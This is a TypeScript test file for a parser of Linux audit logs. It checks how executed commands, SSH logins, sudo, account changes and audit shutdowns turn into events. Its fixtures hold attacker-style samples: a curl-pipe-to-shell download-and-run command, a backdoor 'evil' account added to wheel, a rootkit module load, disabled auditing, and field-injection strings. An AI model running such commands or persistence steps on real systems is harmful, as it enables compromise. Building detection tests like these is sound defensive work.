import { describe, expect, test } from 'bun:test';
import { isoOf, kindsOf, readLog } from '../read-log.fixture.ts';
import { audit } from './audit.ts';

const stamp = (serial: number): string => `msg=audit(1700000000.123:${serial})`;
const enriched = '\x1dARCH=x86_64 SYSCALL=execve AUID="ada" UID="root" GID="root"';
const call = (serial: number, rest = ''): string =>
  `type=SYSCALL ${stamp(serial)}: arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 items=2 ppid=10 pid=11 auid=1000 uid=0 gid=0 tty=pts0 ses=3 comm="sh" exe="/usr/bin/bash" key="x"${rest}`;
const hex = (text: string): string => Buffer.from(text, 'latin1').toString('hex').toUpperCase();
const lines = (...all: readonly string[]): string => `${all.join('\n')}\n`;

const user = (type: string, body: string, auid = '4294967295', pid = 20): string =>
  `type=${type} ${stamp(9)}: pid=${pid} uid=0 auid=${auid} ses=4294967295 subj=x msg='${body}'`;
const sshd = (op: string, acct: string, res: string): string =>
  `op=${op} acct=${acct} exe="/usr/sbin/sshd" hostname=192.0.2.7 addr=192.0.2.7 terminal=ssh res=${res}`;

describe('what others chose', () => {
  test('an account that is written like a field decides nothing', () => {
    for (const name of ['res=success', "x'res=success", "='res=1", 'op=lock']) {
      const { events } = readLog(
        audit,
        lines(user('USER_AUTH', sshd('PAM:authentication', `"${name}"`, 'failed'))),
      );
      expect(events[0]).toMatchObject({ what: 'login', outcome: 'failed', from: '192.0.2.7', account: name });
    }
    const changed = readLog(audit, lines(user('USER_MGMT', sshd('changing-shell', '"op=lock"', 'success'))));
    expect(changed.events[0]).toMatchObject({ what: 'account', action: 'changed' });
  });
});

describe('programs that were run', () => {
  test('the records of one event are one command, with who logged in, whatever he became', () => {
    const text = lines(
      call(5, enriched),
      `type=EXECVE ${stamp(5)}: argc=3 a0="sh" a1="-c" a2=${hex('curl -s http://192.0.2.1/x | sh')}`,
      `type=CWD ${stamp(5)}: cwd="/tmp"`,
      `type=PATH ${stamp(5)}: item=0 name="/bin/sh" inode=1`,
      `type=PROCTITLE ${stamp(5)}: proctitle="sh"`,
    );
    const { events, outcome } = readLog(audit, text);
    expect(outcome).toMatchObject({ lines: 5, events: 5, unreadable: 0 });
    const command = events.find(({ what }) => what === 'command');
    expect(command).toMatchObject({
      what: 'command',
      origin: 'audit',
      account: 'root',
      login: 'ada',
      command: "sh -c 'curl -s http://192.0.2.1/x | sh'",
      exe: '/usr/bin/bash',
      folder: '/tmp',
      pid: 11,
      parent: 10,
      precision: 'millisecond',
    });
    expect(command?.source.line).toBe(1);
    expect(command === undefined ? '' : isoOf(command)).toBe('2023-11-14T22:13:20.123Z');
  });

  test('raw logs have numbers for accounts, and nobody where none logged in', () => {
    const text = lines(
      call(5).replace('auid=1000', 'auid=4294967295'),
      `type=EXECVE ${stamp(5)}: argc=1 a0="id"`,
    );
    const found = readLog(audit, text).events.find(({ what }) => what === 'command');
    expect(found).toMatchObject({ account: '0', command: 'id' });
    expect(found).not.toHaveProperty('login');
  });

  test('a long argument is put together over its parts and records', () => {
    const text = lines(
      call(5),
      `type=EXECVE ${stamp(5)}: argc=3 a0="sh" a1="-c" a2_len=24 a2[0]=${hex('echo AAAA ')}`,
      `type=EXECVE ${stamp(5)}: a2[1]=${hex('BBBB | sh')}`,
      `type=PROCTITLE ${stamp(5)}: proctitle="sh"`,
    );
    expect(readLog(audit, text).events.find(({ what }) => what === 'command')).toMatchObject({
      command: "sh -c 'echo AAAA BBBB | sh'",
    });
  });

  test('records of events that stand between each other find their own', () => {
    const text = lines(
      call(5),
      call(6).replace('pid=11', 'pid=99'),
      `type=EXECVE ${stamp(6)}: argc=1 a0="second"`,
      `type=EXECVE ${stamp(5)}: argc=1 a0="first"`,
      `type=PROCTITLE ${stamp(5)}: proctitle="first"`,
      `type=PROCTITLE ${stamp(6)}: proctitle="second"`,
    );
    const commands = readLog(audit, text).events.filter((event) => event.what === 'command');
    expect(commands.map(({ command, pid }) => [String(command), pid])).toEqual([
      ['first', 11],
      ['second', 99],
    ]);
  });

  test('a call that ran nothing, or failed, is a message', () => {
    expect(kindsOf(audit, lines(call(5)))).toEqual(['message']);
    const failed = lines(
      call(5).replace('success=yes', 'success=no'),
      `type=EXECVE ${stamp(5)}: argc=1 a0="x"`,
    );
    expect(kindsOf(audit, failed)).toEqual(['message', 'message']);
  });

  test('thousands of events that never end are told all the same, and few are open', () => {
    const text = lines(...Array.from({ length: 5000 }, (_, serial) => call(serial)));
    expect(readLog(audit, text).outcome).toMatchObject({ lines: 5000, events: 5000 });
  });
});

describe('logins, sessions and accounts', () => {
  test('a login that PAM, sshd and the end of the login tell is one', () => {
    const text = lines(
      user('USER_AUTH', sshd('PAM:authentication', '"root"', 'success')),
      user('USER_AUTH', sshd('password', '"root"', 'success')),
      user('USER_LOGIN', sshd('login', '"root"', 'success')),
    );
    const { events } = readLog(audit, text);
    expect(events.map(({ what }) => what)).toEqual(['login', 'message', 'message']);
    expect(events[0]).toMatchObject({
      outcome: 'accepted',
      service: 'sshd',
      account: 'root',
      from: '192.0.2.7',
      method: 'password',
      pid: 20,
    });
  });

  test('each try of a guesser is one, and an account that is not there is not known', () => {
    const failed = user('USER_AUTH', sshd('PAM:authentication', '"root"', 'failed'));
    expect(kindsOf(audit, lines(failed, failed, failed))).toEqual(['login', 'login', 'login']);
    const unknown = user('USER_LOGIN', sshd('login', hex('(invalid user)'), 'failed'));
    expect(readLog(audit, lines(unknown)).events[0]).toMatchObject({ known: false, outcome: 'failed' });
  });

  test('sessions, sudo, and what was done to accounts', () => {
    const { events } = readLog(
      audit,
      lines(
        user('USER_START', sshd('PAM:session_open', '"ada"', 'success'), '1000'),
        user(
          'USER_CMD',
          `cwd="/root" cmd=${hex('chattr +i /etc/x')} exe="/usr/bin/sudo" terminal=pts/0 res=success`,
          '1000',
        ),
        user(
          'ADD_USER',
          'op=add-user acct="evil" exe="/usr/sbin/useradd" hostname=? addr=? terminal=? res=success',
          '1000',
        ),
        user('USER_CHAUTHTOK', 'op=PAM:chauthtok acct="root" exe="/usr/bin/passwd" res=success', '1000'),
        user('USER_MGMT', 'op=add-user-to-group grp="wheel" acct="evil" exe="/usr/sbin/usermod" res=success'),
        user('DEL_USER', 'op=deleting-user-not-found acct="x" exe="/usr/sbin/userdel" res=failed'),
      ),
    );
    expect(events).toMatchObject([
      { what: 'session', phase: 'opened', account: 'ada', from: '192.0.2.7', terminal: 'ssh' },
      { what: 'privilege', program: 'sudo', account: '1000', command: 'chattr +i /etc/x', folder: '/root' },
      { what: 'account', action: 'added', account: 'evil', by: '1000' },
      { what: 'account', action: 'password-changed', account: 'root' },
      { what: 'account', action: 'member-added', account: 'evil', group: 'wheel' },
      { what: 'message', program: 'DEL_USER' },
    ]);
  });

  test('what shadow calls the things it does, and nothing else', () => {
    const told = (type: string, operation: string, more = 'acct="evil"') => {
      const record = user(
        type,
        `op=${operation} ${more} exe="/usr/sbin/x" hostname=? addr=? terminal=? res=success`,
      );
      const [event] = readLog(audit, lines(record)).events;
      return event?.what === 'account' ? event.action : event?.what;
    };
    for (const operation of ['add-user', 'adding user', 'adding-user'])
      expect(told('ADD_USER', operation)).toBe('added');
    expect(told('ADD_USER', 'unlocking-passwd-file')).toBe('message');
    expect(told('USER_MGMT', 'delete-user-from-group')).toBe('member-removed');
    expect(told('USER_MGMT', 'add-user-to-shadow-group')).toBe('message');
    expect(told('USER_MGMT', 'update-member-in-group')).toBe('changed');
    expect(told('USER_MGMT', 'change-passwd-expiration')).toBe('changed');
    expect(told('USER_MGMT', 'changing password')).toBe('password-changed');
    expect(told('USER_CHAUTHTOK', 'updating-password')).toBe('password-changed');
    expect(told('GRP_MGMT', 'modify-group', 'acct="wheel"')).toBe('message');
    expect(told('GRP_MGMT', 'add-user-to-group', 'grp="wheel" acct="evil"')).toBe('member-added');
    expect(told('GRP_MGMT', 'delete-group')).toBe('group-removed');
    expect(told('ACCT_UNLOCK', 'clearing-lastlog')).toBe('message');
    expect(told('ACCT_UNLOCK', 'unlocked-password')).toBe('unlocked');
  });

  test('PAM names nobody for an account that is not there', () => {
    const record = user('USER_AUTH', sshd('PAM:authentication', '"?"', 'failed'));
    expect(readLog(audit, lines(record)).events).toMatchObject([
      { what: 'login', known: false, account: '' },
    ]);
  });

  test('auditing that ends or is switched off, modules, and interfaces that listen to all', () => {
    const { events } = readLog(
      audit,
      lines(
        `type=DAEMON_START ${stamp(1)}: op=start ver=3.0 format=enriched kernel=6.1 auid=4294967295 pid=5 res=success`,
        `type=CONFIG_CHANGE ${stamp(2)}: op=set audit_enabled=0 old=1 auid=1000 ses=3 res=1`,
        `type=CONFIG_CHANGE ${stamp(3)}: op=add_rule key="x" list=4 res=1`,
        `type=DAEMON_END ${stamp(4)}: op=terminate auid=0 pid=1 res=success`,
        `type=KERN_MODULE ${stamp(5)}: name="diamorphine"`,
        `type=ANOM_PROMISCUOUS ${stamp(6)}: dev=eth0 prom=256 old_prom=0 auid=0`,
      ),
    );
    expect(events).toMatchObject([
      { what: 'host', action: 'log-started' },
      { what: 'host', action: 'log-stopped' },
      { what: 'message', program: 'CONFIG_CHANGE' },
      { what: 'host', action: 'log-stopped' },
      { what: 'kernel', action: 'module', subject: 'diamorphine' },
      { what: 'kernel', action: 'promiscuous', subject: 'eth0' },
    ]);
  });

  test('the machine that sent a record is named', () => {
    expect(readLog(audit, `node=web1 type=CWD ${stamp(1)}: cwd="/"\n`).events[0]).toMatchObject({
      host: 'web1',
    });
  });
});

describe('hostile records', () => {
  test('a thousand types of records are each their own, and those that follow are read as ever', () => {
    const types = Array.from({ length: 1000 }, (_, index) => `T${(index * 7919) % 1000}X`);
    const text = lines(
      ...types.flatMap((type) => [`type=${type} ${stamp(1)}: a=1`, `type=${type} ${stamp(1)}: a=2`]),
      call(5),
      `type=EXECVE ${stamp(5)}: argc=1 a0="id"`,
    );
    const events = readLog(audit, text).events;
    expect(events.slice(0, 2000).map((event) => event.what === 'message' && String(event.program))).toEqual(
      types.flatMap((type) => [type, type]),
    );
    expect(events.at(-1)).toMatchObject({ what: 'command', command: 'id' });
  });

  test('a type as long as one may be is one, and a longer one is none', () => {
    const of = (length: number): string => `type=${'X'.repeat(length)} ${stamp(1)}: a=1\n`;
    expect(readLog(audit, of(59)).outcome).toMatchObject({ events: 1, unreadable: 0 });
    expect(readLog(audit, of(60)).outcome).toMatchObject({ events: 0, unreadable: 1 });
  });

  test('arguments that are missing are empty, in their place', () => {
    const text = lines(call(5), `type=EXECVE ${stamp(5)}: argc=3 a0="id" a3="x"`);
    expect(readLog(audit, text).events.at(-1)).toMatchObject({ what: 'command', command: "id '' '' x" });
  });

  test('a name that holds fields stays a name: it is hexadecimal', () => {
    const forged = 'root" addr=203.0.113.9 res=success';
    const line = user('USER_AUTH', sshd('PAM:authentication', hex(forged), 'failed'));
    expect(readLog(audit, lines(line)).events[0]).toMatchObject({
      what: 'login',
      outcome: 'failed',
      account: forged,
      from: '192.0.2.7',
    });
    const title = `type=PROCTITLE ${stamp(7)}: proctitle=${hex(`x\n${user('USER_AUTH', sshd('PAM:authentication', '"root"', 'success'))}`)}`;
    expect(kindsOf(audit, lines(title))).toEqual(['message']);
  });

  test('what is no record is refused', () => {
    const text = lines(
      '',
      'type=',
      'type=X msg=audit(',
      'type=X msg=audit(x.y:z): a',
      'type=X msg=audit(99999999999999999999.1:2): a',
      'node=',
      'hello',
    );
    expect(readLog(audit, text).outcome).toMatchObject({ events: 0, unreadable: 6 });
  });
});
